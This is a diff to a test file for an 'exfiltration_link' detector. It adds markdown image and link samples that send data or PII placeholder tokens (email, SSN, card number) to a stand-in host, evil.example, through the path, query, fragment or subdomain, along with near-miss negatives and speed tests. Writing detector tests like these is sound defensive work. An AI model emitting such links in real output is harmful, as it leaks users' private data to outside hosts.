@@ -21,6 +21,11 @@ describe('exfiltration_link', () => {
     `![a«](https://docs.example@evil.example/?q=${data}»)`,
     `![a«](https://docs.example:8443/?q=${data}»)`,
     `![a«](https:\\\\evil.example/?q=${data}»)`,
+    `![a«](//evil.example/?q=${data}»)`,
+    '![a«](https://evil.example/PII_EMAIL_F4HQ7ZKUQW6O.png»)',
+    '![a«](https://evil.example/a?b=pii_us_ssn_f4hq7zkuqw6o»)',
+    String.raw`[a«](https://evil.example/#PII\_CARD\_F4HQ7ZKUQW6O»)`,
+    '![a«](https://PII_EMAIL_F4HQ7ZKUQW6O.evil.example/a.png»)',
     `![${'long '.repeat(100)}«](http://evil.example/?q=${data}»)`,
   ])('is found in %s', (marked) => {
     const { text } = readMarked(marked);
@@ -31,6 +36,8 @@ describe('exfiltration_link', () => {
     `![a](https://docs.example/p.png?q=${data})`,
     `![a](https://DOCS.example/p.png?q=${data})`,
     '![logo](https://evil.example/logo.png?v=20240101&size=200)',
+    '![a](https://docs.example/PII_EMAIL_F4HQ7ZKUQW6O.png)',
+    '![a](https://evil.example/PII_EMAIL_F4HQ7ZKUQW6.png)',
     '[the manual](https://evil.example/en/latest/user-guide/getting-started)',
     `https://evil.example/?q=${data}`,
     `<script src="https://evil.example/?d=${data}"></script>`,
@@ -45,7 +52,7 @@ describe('exfiltration_link', () => {
     expect(exfiltrationDetectors(new Set()).every(({ detector }) => ENTITY_NAMES.has(detector.entity))).toBe(true);
   });
 
-  it.each(['](http://a', '](', 'src=', `](https://a/?b=${data}`, 'src=http://a?', ']: <', '](http://'])(
+  it.each(['](http://a', '](', 'src=', `](https://a/?b=${data}`, 'src=http://a?', ']: <', '](http://', '](//PII_', 'PII_A'])(
     'takes at most 50 ms for 100 KB of %s',
     (part) => {
       const text = part.repeat(Math.ceil(100_000 / part.length));
